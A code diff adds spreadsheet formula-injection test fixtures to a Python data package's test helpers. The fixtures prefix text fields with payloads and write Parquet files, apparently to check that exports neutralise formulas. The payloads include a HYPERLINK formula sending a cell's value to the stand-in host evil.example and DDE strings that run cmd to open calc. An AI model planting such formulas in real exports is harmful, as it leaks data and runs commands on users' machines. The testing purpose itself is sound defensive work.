@@ -53,3 +53,50 @@ def copy_data(tmp_path: Path, name: str = "data") -> Path:
     for table in s.TABLES:
         shutil.copyfile(DATA_DIR / s.get_file_name(table), out / s.get_file_name(table))
     return out
+
+
+# Texts a spreadsheet would read as formulas (OWASP "CSV injection"): a link that leaks a cell, DDE calls, and
+# each character that starts a formula (= + - @, tab, carriage return).
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+# The goal number has a checked form ("1.3"); codes are Swedish words in the files, not the data's text.
+_KEPT_TEXT = {"goal_id"}
+
+
+def get_formula_text(text: str) -> str:
+    """Return ``text`` behind one of FORMULA_TEXTS, the same one for the same text (so references stay joined)."""
+    return f"{FORMULA_TEXTS[sum(map(ord, text)) % len(FORMULA_TEXTS)]} {text}"
+
+
+def formula_frames() -> dict[str, pd.DataFrame]:
+    """Return the committed tables with every text the data's checks let through beginning like a formula."""
+    import pyarrow as pa
+
+    from ks_data import labels
+
+    frames = real_frames()
+    for table, df in frames.items():
+        for f in s.SCHEMAS[table]:
+            if not pa.types.is_string(f.type) or f.name in _KEPT_TEXT or labels.get_code_words(table, f.name):
+                continue
+            df[f.name] = [None if v is None or v != v else get_formula_text(v) for v in df[f.name]]
+    return frames
+
+
+def write_formula_data(folder: Path) -> Path:
+    """Write formula_frames() as Parquet files into ``folder`` (made if missing) and return it."""
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    folder.mkdir(parents=True, exist_ok=True)
+    for table, df in formula_frames().items():
+        pq.write_table(pa.Table.from_pandas(df, schema=s.SCHEMAS[table], preserve_index=False),
+                       folder / s.get_file_name(table))
+    return folder
